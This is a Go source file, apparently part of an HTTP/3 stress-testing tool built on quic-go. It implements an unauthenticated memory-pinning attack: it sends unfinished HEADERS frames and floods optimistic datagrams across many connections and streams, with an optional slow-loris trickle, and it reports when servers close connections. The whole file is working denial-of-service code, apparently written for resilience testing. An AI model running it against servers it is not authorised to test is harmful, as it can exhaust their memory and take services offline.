package main

// pin: unauthenticated memory pinning. Each request stream announces a
// HEADERS frame it never finishes, and datagrams for it follow at once
// (RFC 9298 §5 lets clients send datagrams optimistically): a server that
// buffers either before the request has parsed and authenticated holds
// memory for a peer that has shown nothing.

import (
	"context"
	"flag"
	"slices"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

type pin struct {
	n, streams, datagrams, size, announce, deliver int
	trickle                                        time.Duration
}

func pinFlags(fs *flag.FlagSet) *pin {
	p := &pin{}
	fs.IntVar(&p.n, "n", 64, "connections")
	fs.IntVar(&p.streams, "streams", 100, "request streams per connection (as many as quic-go lets open, at most this)")
	fs.IntVar(&p.datagrams, "datagrams", 32, "datagrams per stream")
	fs.IntVar(&p.size, "size", 1150, "bytes per datagram")
	fs.IntVar(&p.announce, "announce", 16383, "length the HEADERS frame announces")
	fs.IntVar(&p.deliver, "deliver", 64, "bytes of the HEADERS frame sent")
	fs.DurationVar(&p.trickle, "trickle", 0, "after the datagrams, send one more byte of each HEADERS frame this often (0: none)")
	return p
}

// pinConn is the report of one connection.
type pinConn struct {
	Event     string `json:"event"` // "conn"
	I         int    `json:"i"`
	Local     string `json:"local,omitempty"`
	DialError string `json:"dial_error,omitempty"`
	// Streams is how many request streams quic-go let the connection open
	// (the server's MAX_STREAMS), at most -streams.
	Streams     int     `json:"streams"`
	StreamError string  `json:"stream_error,omitempty"` // why it opened no more
	Datagrams   int     `json:"datagrams"`              // datagrams sent
	SendError   string  `json:"send_error,omitempty"`
	Trickled    int     `json:"trickled,omitempty"` // bytes trickled per stream
	SentMs      float64 `json:"sent_ms"`            // from the handshake to the last datagram
	Closed      bool    `json:"closed"`
	// ClosedAfterMs is from the end of the handshake to the close.
	ClosedAfterMs  float64 `json:"closed_after_ms,omitempty"`
	ClosedAtUnixMs int64   `json:"closed_at_unix_ms,omitempty"`
	closeInfo
}

// pinSummary is the last line.
type pinSummary struct {
	// Event is "opened" once every connection has opened its streams,
	// "ready" once all is sent, then "done".
	Event      string         `json:"event"`
	Conns      int            `json:"conns"`
	Dialed     int            `json:"dialed"`
	DialFailed int            `json:"dial_failed"`
	Closed     int            `json:"closed"`
	Open       int            `json:"open"`
	Streams    int            `json:"streams"` // in all
	StreamsMin int            `json:"streams_min"`
	StreamsMax int            `json:"streams_max"`
	Datagrams  int            `json:"datagrams"`
	CloseP50ms float64        `json:"close_p50_ms"`
	CloseMaxms float64        `json:"close_max_ms"`
	Codes      map[string]int `json:"codes"` // close code → connections
	Seconds    float64        `json:"seconds"`
}

func (p *pin) run(ctx context.Context, d *dialer, _ common) error {
	start := time.Now()
	conns := make([]*pinConn, p.n)
	var (
		opened, sent, all sync.WaitGroup
		dials             = make(chan struct{}, 16) // handshakes at once
	)
	for i := range p.n {
		pc := &pinConn{Event: "conn", I: i}
		conns[i] = pc
		opened.Add(1)
		sent.Add(1)
		all.Go(func() { p.conn(ctx, d, pc, dials, opened.Done, sent.Done) })
	}
	opened.Wait()
	emit(p.summary(conns, "opened", start))
	sent.Wait()
	s := p.summary(conns, "ready", start)
	emit(s)
	all.Wait()
	for _, pc := range conns {
		emit(pc)
	}
	emit(p.summary(conns, "done", start))
	return nil
}

// conn runs one connection: it calls opened once its streams are open,
// sent once everything is sent (or either failed), then waits for the
// server to close the connection or ctx to end, and closes it.
func (p *pin) conn(ctx context.Context, d *dialer, pc *pinConn, dials chan struct{}, opened, sent func()) {
	dials <- struct{}{}
	h, err := d.openH3(ctx, quicConfig(true), defaultSettings)
	<-dials
	if err != nil {
		pc.DialError = err.Error()
		opened()
		sent()
		return
	}
	defer h.close()
	t0 := time.Now()
	pc.Local = h.qc.LocalAddr().String()

	// The HEADERS frame's header announces p.announce bytes; p.deliver of
	// them follow and the rest never does.
	head := quicvarint.Append(nil, frameHeaders)
	head = quicvarint.Append(head, uint64(p.announce))
	head = append(head, make([]byte, p.deliver)...)
	var (
		qsids []uint64
		strs  []*quic.Stream
	)
	for range p.streams {
		str, err := h.qc.OpenStream()
		if err != nil {
			pc.StreamError = err.Error()
			break
		}
		pc.Streams++
		qsids = append(qsids, uint64(str.StreamID())/4)
		strs = append(strs, str)
		if _, err := str.Write(head); err != nil {
			pc.StreamError = err.Error()
			break
		}
	}
	opened()
	// Datagrams round robin over the streams: quarter stream ID, context
	// ID 0, filler up to p.size.
	dg := make([]byte, 0, p.size+16)
send:
	for range p.datagrams {
		for _, q := range qsids {
			if ctx.Err() != nil {
				break send
			}
			b := quicvarint.Append(dg[:0], q)
			b = append(b, 0)
			b = append(b, make([]byte, max(0, p.size-len(b)))...)
			if err := h.qc.SendDatagram(b); err != nil {
				pc.SendError = err.Error()
				break send
			}
			pc.Datagrams++
		}
	}
	pc.SentMs = ms(time.Since(t0))
	sent()

	// A slow loris: progress on every HEADERS frame, never its end (the
	// announced length is far off).
	var tick <-chan time.Time
	if p.trickle > 0 {
		t := time.NewTicker(p.trickle)
		defer t.Stop()
		tick = t.C
	}
	one := []byte{0}
wait:
	for {
		select {
		case <-tick:
			for _, str := range strs {
				str.Write(one)
			}
			pc.Trickled++
		case <-h.qc.Context().Done():
			pc.Closed = true
			pc.ClosedAfterMs = ms(time.Since(t0))
			pc.ClosedAtUnixMs = time.Now().UnixMilli()
			break wait
		case <-ctx.Done():
			break wait
		}
	}
	pc.closeInfo, _ = connClosed(h.qc)
}

func (p *pin) summary(conns []*pinConn, event string, start time.Time) pinSummary {
	s := pinSummary{Event: event, Conns: len(conns), Codes: map[string]int{}, StreamsMin: -1, Seconds: time.Since(start).Seconds()}
	var lat []float64
	for _, pc := range conns {
		if pc.DialError != "" {
			s.DialFailed++
			continue
		}
		s.Dialed++
		s.Streams += pc.Streams
		if event != "opened" { // still being sent
			s.Datagrams += pc.Datagrams
		}
		if s.StreamsMin < 0 || pc.Streams < s.StreamsMin {
			s.StreamsMin = pc.Streams
		}
		s.StreamsMax = max(s.StreamsMax, pc.Streams)
		if event != "done" {
			continue
		}
		if pc.Closed {
			s.Closed++
			s.Codes[pc.Code]++
			lat = append(lat, pc.ClosedAfterMs)
		} else {
			s.Open++
		}
	}
	slices.Sort(lat)
	if len(lat) > 0 {
		s.CloseP50ms, s.CloseMaxms = lat[len(lat)/2], lat[len(lat)-1]
	}
	return s
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
